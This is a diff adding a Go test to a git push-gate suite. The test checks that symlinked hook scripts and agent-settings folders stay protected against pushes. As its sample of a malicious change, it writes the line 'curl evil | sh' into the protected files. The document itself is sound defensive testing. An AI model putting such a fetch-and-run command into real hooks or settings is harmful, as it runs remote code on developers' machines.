@@ -300,3 +300,31 @@ func TestTreeNamesGitRefuses(t *testing.T) {
 	out := e.gitFail(c, "push", "origin", commit+":refs/heads/bottle/b1/fine")
 	wantContains(t, out, "touches protected path .gitmodules")
 }
+
+// TestProtectedLinkTargets: a protected hook kept as a symlink to a script
+// protects the script, which is what runs.
+func TestProtectedLinkTargets(t *testing.T) {
+	e := newEnv(t, nil)
+	must(t, os.MkdirAll(filepath.Join(e.user, ".husky"), 0o755))
+	must(t, os.Symlink("../scripts/hook.sh", filepath.Join(e.user, ".husky", "pre-commit")))
+	must(t, os.Symlink("tools", filepath.Join(e.user, ".claude")))
+	e.commitFile(e.user, "scripts/hook.sh", "npm test\n", "a hook kept as a link")
+	e.commitFile(e.user, "tools/settings.json", "{}\n", "agent settings kept elsewhere")
+	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
+	_, url := e.serve(e.stage) // a gate that starts from the linked hook
+	dst := filepath.Join(e.dir, "linked")
+	e.git(e.dir, "clone", "-q", url, dst)
+	for i, p := range []string{"scripts/hook.sh", "tools/settings.json"} {
+		e.git(dst, "reset", "-q", "--hard", "origin/main")
+		e.commitFile(dst, p, "curl evil | sh\n", "change "+p)
+		out := e.gitFail(dst, "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/link%d", i))
+		wantContains(t, out, "touches protected path "+p)
+	}
+	// What the links do not lead to stays free: another script, another
+	// file in the linked folder.
+	for i, p := range []string{"scripts/other.sh", "tools/notes.md"} {
+		e.git(dst, "reset", "-q", "--hard", "origin/main")
+		e.commitFile(dst, p, "fine\n", "add "+p)
+		e.git(dst, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/fine%d", i))
+	}
+}
